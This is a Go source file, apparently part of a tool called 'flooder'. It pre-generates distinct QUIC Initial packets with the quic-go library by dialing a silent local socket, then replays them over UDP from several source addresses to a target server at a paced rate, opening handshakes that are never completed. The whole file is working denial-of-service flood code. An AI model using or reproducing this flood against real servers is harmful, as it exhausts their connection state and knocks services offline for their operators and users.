//go:build linux

package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"time"

	"github.com/quic-go/quic-go"
)

// initials sends Initial packets of QUIC, whose handshakes never go on.
func (f *flooder) initials() {
	packets, err := makeInitials(f.ctx, f.share(6000))
	if err != nil {
		f.count("error: "+err.Error(), 1)
		return
	}
	f.count("initials", len(packets))
	pace := f.pace(6000)
	f.workers(3*len(f.sources), func(i int) {
		c, err := net.DialUDP("udp", &net.UDPAddr{IP: f.sources[i%len(f.sources)].AsSlice()}, net.UDPAddrFromAddrPort(f.secure))
		if err != nil {
			return
		}
		defer c.Close()
		for n := i; pace.next(); n += 3 * len(f.sources) {
			if _, err := c.Write(packets[n%len(packets)]); err == nil {
				f.count("datagrams", 1)
			}
		}
	})
}

// makeInitials has quic-go begin connections to a socket of ours that answers nothing.
func makeInitials(ctx context.Context, n int) ([][]byte, error) {
	sink, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		return nil, err
	}
	defer sink.Close()
	var packets [][]byte
	seen := map[string]bool{} // connection ids
	buf := make([]byte, 2048)
	for len(packets) < n {
		own, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			return nil, err
		}
		ctx, cancel := context.WithTimeout(ctx, time.Second)
		transport := &quic.Transport{Conn: own}
		done := make(chan struct{})
		const batch = 50
		for range batch {
			go func() {
				_, _ = transport.Dial(ctx, sink.LocalAddr(), &tls.Config{ServerName: webHost, InsecureSkipVerify: true, NextProtos: []string{"h3"}}, nil)
				done <- struct{}{}
			}()
		}
		for before := len(seen); len(seen) < before+batch; {
			if err = sink.SetReadDeadline(time.Now().Add(500 * time.Millisecond)); err != nil {
				break
			}
			var size int
			if size, err = sink.Read(buf); err != nil {
				break
			}
			// A long header of type Initial, with the destination's connection id.
			if size < 1200 || buf[0]&0xf0 != 0xc0 || seen[string(buf[6:6+buf[5]])] {
				continue
			}
			seen[string(buf[6:6+buf[5]])] = true
			packets = append(packets, append([]byte(nil), buf[:size]...))
		}
		cancel()
		for range batch {
			<-done
		}
		_ = transport.Close()
		own.Close()
		if len(packets) == 0 {
			return nil, fmt.Errorf("no Initial packet was made: %w", err)
		}
	}
	return packets, nil
}
